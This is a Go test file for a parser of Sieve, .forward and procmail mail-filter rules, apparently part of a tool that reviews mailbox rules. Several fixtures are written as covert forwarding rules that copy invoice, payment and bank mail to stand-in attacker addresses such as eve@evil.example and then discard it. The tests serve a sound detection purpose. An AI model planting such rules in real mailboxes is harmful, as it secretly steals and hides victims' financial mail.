package sieve

import (
	"errors"
	"reflect"
	"strings"
	"testing"

	"github.com/mailtrip/mailtrip/logfmt"
)

// brief is an action reduced to what the tables compare.
type brief struct {
	Type    string
	Targets string // joined with ","
	Copy    bool
	Conds   string // joined with " && "
	Line    int
}

func briefs(s *Script) []brief {
	var out []brief
	for _, a := range s.Actions {
		out = append(out, brief{a.Type, strings.Join(a.Targets, ","), a.Copy, strings.Join(a.Conditions, " && "), a.Line})
	}
	return out
}

func TestSieve(t *testing.T) {
	tests := []struct {
		name    string
		src     string
		want    []brief
		require []string
	}{
		{
			name: "redirect-unconditional",
			src:  "redirect \"eve@evil.example\";\n",
			want: []brief{{"redirect", "eve@evil.example", false, "", 1}},
		},
		{
			name:    "redirect-copy-rfc3894",
			src:     "require [\"copy\"];\r\nredirect :copy \"eve@evil.example\";\r\n",
			want:    []brief{{"redirect", "eve@evil.example", true, "", 2}},
			require: []string{"copy"},
		},
		{
			name: "if-elsif-else",
			src: `require ["fileinto", "imap4flags"];
# hide bank mail, copy invoices away
if header :contains "subject" ["invoice", "payment"] {
  redirect "eve@evil.example";
  discard;
  stop;
} elsif address :is :domain "from" "bank.example" {
  addflag "\\Seen";
  fileinto "Junk";
} else {
  keep;
}
`,
			want: []brief{
				{"redirect", "eve@evil.example", false, `header :contains "subject" ["invoice", "payment"]`, 4},
				{"discard", "", false, `header :contains "subject" ["invoice", "payment"]`, 5},
				{"stop", "", false, `header :contains "subject" ["invoice", "payment"]`, 6},
				{"addflag", `\Seen`, false, `not header :contains "subject" ["invoice", "payment"] && address :is :domain "from" "bank.example"`, 8},
				{"fileinto", "Junk", false, `not header :contains "subject" ["invoice", "payment"] && address :is :domain "from" "bank.example"`, 9},
				{"keep", "", false, `not header :contains "subject" ["invoice", "payment"] && not address :is :domain "from" "bank.example"`, 11},
			},
			require: []string{"fileinto", "imap4flags"},
		},
		{
			name: "tests-anyof-allof-not-exists-size-true",
			src: `if anyof (not exists "x-spam", allof (size :over 100K, true)) { redirect "a@b.example"; keep; }
if true { fileinto :copy "Archive"; }`,
			want: []brief{
				{"redirect", "a@b.example", true, `anyof(not exists "x-spam", allof(size :over 100K, true))`, 1},
				{"keep", "", false, `anyof(not exists "x-spam", allof(size :over 100K, true))`, 1},
				{"fileinto", "Archive", true, "true", 2},
			},
		},
		{
			name: "envelope-and-comments",
			src:  "/* multi\nline */ if envelope :all :is \"to\" \"me@corp.example\" # trailing\n{ redirect \"x@y.example\"; }\n",
			want: []brief{{"redirect", "x@y.example", false, `envelope :all :is "to" "me@corp.example"`, 3}},
		},
		{
			name: "vacation-multiline",
			src:  "require \"vacation\";\nvacation :days 7 :addresses [\"me@corp.example\"] text:\nI am away.\n..dot\n.\n;\nredirect \"z@z.example\";\n",
			want: []brief{
				{"vacation", "me@corp.example", false, "", 2},
				{"redirect", "z@z.example", false, "", 7},
			},
			require: []string{"vacation"},
		},
		{
			name: "notify-mailto",
			src:  `notify :message "new" "mailto:spy@evil.example?subject=x";`,
			want: []brief{{"notify", "spy@evil.example", false, "", 1}},
		},
		{
			name: "escapes",
			src:  `if header :contains "subject" "say \"hi\" \q" { reject "no"; }`,
			want: []brief{{"reject", "no", false, `header :contains "subject" "say \"hi\" q"`, 1}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, err := Parse(strings.NewReader(tt.src), Options{Format: FormatSieve})
			if err != nil {
				t.Fatal(err)
			}
			if got := briefs(s); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("actions\n got %+v\nwant %+v", got, tt.want)
			}
			if !reflect.DeepEqual(s.Require, tt.require) {
				t.Errorf("require %v, want %v", s.Require, tt.require)
			}
		})
	}
}

func TestSieveErrors(t *testing.T) {
	tests := []struct {
		name, src string
		line      int
		sentinel  error
		actions   int
	}{
		{"missing-semicolon", "keep\nredirect \"a@b\";", 2, ErrSyntax, 0},
		{"unterminated-string", "keep;\nredirect \"a@b;\n", 2, ErrSyntax, 1},
		{"unclosed-block", "if true {\n keep;\n", 3, ErrSyntax, 1},
		{"stray-brace", "keep; }", 1, ErrSyntax, 1},
		{"bad-char", "keep;\n\n@", 3, ErrSyntax, 1},
		{"unterminated-comment", "keep; /* x", 1, ErrSyntax, 1},
		{"unterminated-text", "vacation text:\nhello\n", 1, ErrSyntax, 0},
		{"deep", strings.Repeat("if true {", 40) + strings.Repeat("}", 40), 1, ErrLimit, 0},
		{"deep-tests", "if " + strings.Repeat("not ", 40) + "true {}", 1, ErrLimit, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, err := Parse(strings.NewReader(tt.src), Options{Format: FormatSieve})
			var pe *ParseError
			if !errors.As(err, &pe) || !errors.Is(err, tt.sentinel) {
				t.Fatalf("err %v, want a ParseError wrapping %v", err, tt.sentinel)
			}
			if pe.Line != tt.line {
				t.Errorf("line %d, want %d (%v)", pe.Line, tt.line, err)
			}
			if len(s.Actions) != tt.actions {
				t.Errorf("%d actions before the error, want %d", len(s.Actions), tt.actions)
			}
		})
	}
}

func TestLimits(t *testing.T) {
	src := strings.Repeat("keep;\n", 20)
	s, err := Parse(strings.NewReader(src), Options{Format: FormatSieve, MaxActions: 5})
	if !errors.Is(err, ErrLimit) || len(s.Actions) != 5 {
		t.Errorf("actions: %d, %v", len(s.Actions), err)
	}
	s, err = Parse(strings.NewReader(src), Options{Format: FormatSieve, MaxBytes: 12})
	if !errors.Is(err, ErrLimit) || len(s.Actions) != 2 {
		t.Errorf("bytes: %d, %v", len(s.Actions), err)
	}
	long := `if header :contains "subject" "` + strings.Repeat("x", 5000) + `" { keep; }`
	s, _ = Parse(strings.NewReader(long), Options{Format: FormatSieve, MaxText: 100})
	if c := s.Actions[0].Conditions[0]; len(c) > 110 || !strings.HasSuffix(c, "…") {
		t.Errorf("condition not clipped: %d bytes", len(c))
	}
}

func TestForward(t *testing.T) {
	tests := []struct {
		name, src string
		want      []brief
	}{
		{"external-only", "eve@evil.example\n", []brief{{"forward", "eve@evil.example", false, "", 1}}},
		{"keep-copy", "# keep mine\n\\alice, \"alice@home.example\"\n", []brief{
			{"keep", "alice", false, "", 2},
			{"forward", "alice@home.example", true, "", 2},
		}},
		{"pipe-include-file", "\"|/usr/bin/vacation alice\"\n:include:/etc/mail/list\n/var/mail/alice.copy\n/dev/null\n", []brief{
			{"pipe", "/usr/bin/vacation alice", false, "", 1},
			{"include", "/etc/mail/list", false, "", 2},
			{"fileinto", "/var/mail/alice.copy", false, "", 3},
			{"discard", "/dev/null", false, "", 4},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, err := Parse(strings.NewReader(tt.src), Options{Name: "/home/alice/.forward"})
			if err != nil {
				t.Fatal(err)
			}
			if s.Format != FormatForward {
				t.Errorf("format %q", s.Format)
			}
			if got := briefs(s); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("\n got %+v\nwant %+v", got, tt.want)
			}
		})
	}
	if _, err := Parse(strings.NewReader("\"unterminated\n"), Options{Format: FormatForward}); !errors.Is(err, ErrSyntax) {
		t.Errorf("unterminated quote: %v", err)
	}
	if _, err := Parse(strings.NewReader("# Exim filter\nunseen deliver x@y\n"), Options{Name: ".forward"}); !errors.Is(err, ErrUnsupported) {
		t.Errorf("exim: %v", err)
	}
	s, err := Parse(strings.NewReader("# Sieve filter\nredirect \"a@b.example\";\n"), Options{Name: ".forward"})
	if err != nil || s.Format != FormatSieve || len(s.Actions) != 1 {
		t.Errorf("sieve .forward: %+v %v", s, err)
	}
}

func TestProcmail(t *testing.T) {
	src := `# procmailrc
MAILDIR=$HOME/Mail
:0 c
* ^Subject:.*(invoice|payment)
! eve@evil.example
:0:
* ^From:.*bank\.example
* !^X-Spam
{
  :0 c
  ! -oi spy@evil.example
  :0
  /dev/null
}
:0 B
* wire \
  transfer
| /usr/local/bin/notify
:0 A
archive/
`
	s, err := Parse(strings.NewReader(src), Options{Name: ".procmailrc"})
	if err != nil {
		t.Fatal(err)
	}
	want := []brief{
		{"forward", "eve@evil.example", true, `^Subject:.*(invoice|payment)`, 5},
		{"forward", "spy@evil.example", true, `^From:.*bank\.example && !^X-Spam`, 11},
		{"discard", "/dev/null", false, `^From:.*bank\.example && !^X-Spam`, 13},
		{"pipe", "/usr/local/bin/notify", false, `wire   transfer`, 18},
		{"fileinto", "archive/", false, `flags A (depends on the previous recipe)`, 20},
	}
	if got := briefs(s); !reflect.DeepEqual(got, want) {
		t.Errorf("\n got %+v\nwant %+v", got, want)
	}
	if sib := s.Actions[1].Siblings; !reflect.DeepEqual(sib, []string{"discard"}) {
		t.Errorf("siblings %v", sib)
	}
	for _, bad := range []struct{ src string }{{":0\n* x\n"}, {"}\n"}, {":0\n{\n:0\n/dev/null\n"}} {
		if _, err := Parse(strings.NewReader(bad.src), Options{Format: FormatProcmail}); !errors.Is(err, ErrSyntax) {
			t.Errorf("%q: %v", bad.src, err)
		}
	}
}

func TestDetectFormat(t *testing.T) {
	tests := []struct {
		name, head string
		want       Format
	}{
		{"x.sieve", "", FormatSieve},
		{"/home/a/.dovecot.sieve", "", FormatSieve},
		{"rules", "# my rules\nrequire \"fileinto\";", FormatSieve},
		{"/home/a/.procmailrc", "", FormatProcmail},
		{"rc.spam", ":0\n* x\n/dev/null", FormatProcmail},
		{"/home/a/.forward", "a@b.example", FormatForward},
		{"notes.txt", "hello", FormatUnknown},
	}
	for _, tt := range tests {
		if got := DetectFormat(tt.name, []byte(tt.head)); got != tt.want {
			t.Errorf("%s: %q, want %q", tt.name, got, tt.want)
		}
	}
	if g := Sniff([]byte("require \"copy\";"), "x"); g.Format != "sieve.script" {
		t.Errorf("sniff %+v", g)
	}
}

func TestReadRecords(t *testing.T) {
	src := "require \"copy\";\nif header :contains \"subject\" \"wire\" { redirect :copy \"eve@evil.example\"; discard; }\nkeep;\nbroken"
	recs, err := ReadRecords(strings.NewReader(src), "/var/vmail/corp.example/alice/sieve/main.sieve", Options{})
	var lpe *logfmt.ParseError
	if !errors.As(err, &lpe) || lpe.Line != 4 {
		t.Fatalf("err %v", err)
	}
	if len(recs) != 3 {
		t.Fatalf("%d records", len(recs))
	}
	f := recs[0].Fields
	want := map[string]any{
		FieldFormat: "sieve", FieldAction: "redirect", FieldTargets: []any{"eve@evil.example"}, FieldCopy: true,
		FieldConditions: []any{`header :contains "subject" "wire"`}, FieldCondition: `header :contains "subject" "wire"`,
		FieldLine: 2, FieldSiblings: []any{"discard"}, FieldRequire: []any{"copy"}, FieldFlags: ":copy",
		FieldOwner: "alice@corp.example",
	}
	if !reflect.DeepEqual(f, want) {
		t.Errorf("record\n got %#v\nwant %#v", f, want)
	}
	if recs[0].Line != 2 || recs[2].Index != 2 {
		t.Errorf("origins %+v %+v", recs[0].Origin, recs[2].Origin)
	}
}

func TestOwner(t *testing.T) {
	for path, want := range map[string]string{
		"/var/vmail/alice@corp.example/.dovecot.sieve":     "alice@corp.example",
		"/var/vmail/corp.example/alice/sieve/x.sieve":      "alice@corp.example",
		"/home/bob/.forward":                               "bob",
		"/Users/carol/.procmailrc":                         "carol",
		"rules.sieve":                                      "",
		"/srv/mail/filters/x.sieve":                        "",
		"/home/bob":                                        "",
		"/var/vmail/corp.example/alice@corp.example.sieve": "",
	} {
		if got := Owner(path); got != want {
			t.Errorf("Owner(%q) = %q, want %q", path, got, want)
		}
	}
}
